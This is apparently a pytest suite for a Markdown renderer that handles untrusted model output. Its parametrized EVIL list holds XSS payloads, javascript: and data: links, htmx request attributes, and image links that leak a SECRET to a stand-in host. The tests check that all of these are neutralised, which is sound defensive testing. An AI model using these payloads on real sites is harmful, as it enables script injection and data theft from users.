"""Text of a model is untrusted: nothing in it may load, run or submit anything."""

import re

import pytest

from nyxcore import markdown
from nyxcore.markdown import render

EVIL = [
    "<script>alert(1)</script>",
    "![x](https://evil.test/?q=SECRET)",
    "![x][r]\n\n[r]: https://evil.test/?q=SECRET",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "<javascript:alert(1)>",
    '<div hx-get="/keys" hx-trigger="load">',
    '<a data-hx-post="/workflows/1/cancel/">x</a>',
    "<svg><animate onbegin=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<base href="https://evil.test"><meta http-equiv=refresh content=0><link rel=stylesheet href=x>',
    "<form action=https://evil.test><input name=a></form>",
    "<style>*{display:none}</style><p style=color:red id=live class=step-row>",
    '```html" onclick="alert(1)\nx\n```',
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "| a | b |\n|--|--|\n| <img src=x> | [x](javascript:a) |",
    "# <img src=x onerror=alert(1)>",
    "[x](https://a.test \"t\" onmouseover='alert(1)')",
]
TAG = re.compile(r"<(/?)([a-z0-9]+)((?:\s+[a-z-]+=\"[^\"]*\")*)\s*>")
ALLOWED = markdown.TEXT_TAGS | markdown.LIST_TAGS | markdown.TABLE_TAGS


def tags(html):
    """(name, attributes) of every tag; everything that begins like one must be one of ours."""
    found = TAG.findall(html)
    assert len(found) == html.count("<"), html
    return [(name, dict(re.findall(r'([a-z-]+)="([^"]*)"', rest))) for _end, name, rest in found]


@pytest.mark.parametrize("text", EVIL)
def test_hostile_text_is_harmless(text):
    for name, attributes in tags(render(text)):
        assert name in ALLOWED
        assert set(attributes) <= {"href", "title", "rel", "start", "align", "class"}
        assert attributes.get("href", "https:").startswith(("https:", "http:", "mailto:"))


@pytest.mark.parametrize("text", EVIL)
def test_no_class_of_our_pages_can_be_borrowed(text):
    assert not [
        attributes for name, attributes in tags(render(text)) if "class" in attributes and name != "span"
    ]


def test_template_syntax_is_shown_literally():
    assert "{{ settings.SECRET_KEY }}{% debug %}" in render("{{ settings.SECRET_KEY }}{% debug %}")


def test_image_becomes_its_words_and_address():
    assert render("![a chart](https://evil.test/x.png)") == "<p>[a chart: https://evil.test/x.png]</p>\n"


def test_link_is_marked_and_leads_outside_only():
    assert render("[a](https://a.test)") == (
        '<p><a href="https://a.test" rel="nofollow noopener noreferrer">a</a></p>\n'
    )
    for inside in ("/admin/", "#live", "workflows/1/", "//evil.test/x"):
        assert "href" not in render(f"[a]({inside})")


def test_tables_are_aligned_without_style():
    html = render("| a | b |\n|--:|:-:|\n| 1 | 2 |")
    assert '<td align="right">1</td>' in html
    assert "style" not in html


def test_code_is_highlighted_with_known_classes():
    html = render("```python\ndef f(): return '<b>'\n```")
    assert '<span class="k">def</span>' in html
    assert "&lt;b&gt;" in html


@pytest.mark.parametrize("language", ["", "nosuch", "python\x00", "a" * 500])
def test_unknown_language_is_plain(language):
    assert "<pre><code>x = 1" in render(f"```{language}\nx = 1\n```")


@pytest.mark.parametrize(
    ("levels", "shown"),
    [
        ([1, 2, 3], [3, 4, 5]),
        ([2, 3, 2], [3, 4, 3]),
        ([4], [3]),
        ([1, 6, 2], [3, 4, 4]),
        ([3, 1], [3, 3]),
        ([1, 2, 3, 4, 5, 6], [3, 4, 5, 6, 6, 6]),
    ],
)
def test_headings_stand_below_the_steps_own_without_gaps(levels, shown):
    html = render("\n\n".join("#" * level + " A" for level in levels))
    assert re.findall(r"<h(\d)>", html) == [str(level) for level in shown]
    assert re.findall(r"</h(\d)>", html) == [str(level) for level in shown]


def test_unprintable_marks_are_replaced():
    assert render("a\u202eb\x07c\x00d") == "<p>a\ufffdb\ufffdc\ufffdd</p>\n"


def test_huge_text_is_shown_as_it_is():
    html = render("*a* <b>\n" * 60_000)
    assert html.startswith("<pre>*a* &lt;b&gt;")


def test_deep_nesting_ends():
    assert render("> " * 5000 + "x")
    assert render("[" * 5000 + "x")
    assert render("*" * 5000 + "x")


# --- texts in parts -------------------------------------------------------------------------------------------

MARK = re.compile(r'<span class="seam-mark">part \d</span>')


@pytest.mark.parametrize(
    ("parts", "shown"),
    [
        (["- second thi", "ng"], 'second thi<span class="seam-mark">part 2</span>ng'),
        (["One **bo", "ld** two"], '<strong>bo<span class="seam-mark">part 2</span>ld</strong>'),
        (["One.\n\n", "## Two"], 'One.<span class="seam-mark">part 2</span></p>\n<h3>Two</h3>'),
        (["|a|b|\n|-|-|\n| 1 ", "| 2 |"], '<td>1<span class="seam-mark">part 2</span></td>\n<td>2</td>'),
        (["```\nx\n", "y\n```"], '<code>x<span class="seam-mark">part 2</span>\ny\n</code>'),
        (["`a ", "b` c"], '<code>a <span class="seam-mark">part 2</span>b</code>'),
        (["[x](http://a.te", "st) on"], 'x</a> on<span class="seam-mark">part 2</span>'),
        (['[x](http://a "t > ', 'u") on'], 'x</a> on<span class="seam-mark">part 2</span>'),
    ],
)
def test_seam_is_marked_where_it_changes_nothing_else(parts, shown):
    html = markdown.render_joined(parts)
    assert shown in html
    assert MARK.sub("", html) == render("".join(parts))


def test_every_part_is_marked_in_order():
    html = markdown.render_joined(["One ", "two ", "three ", "four"])
    assert re.sub("<[^>]*>", "", html) == "One part 2two part 3three part 4four\n"


def test_text_with_marks_of_its_own_gets_none():
    assert "seam-mark" not in markdown.render_joined(["a \ue002", "b"])
    assert "<span" not in render('a \ue002 <span class="seam-mark">')


@pytest.mark.parametrize("evil", EVIL)
def test_seams_let_nothing_through(evil):
    for cut in range(0, len(evil), 5):
        html = markdown.render_joined([evil[:cut], evil[cut:]])
        assert MARK.sub("", html) == render(evil)
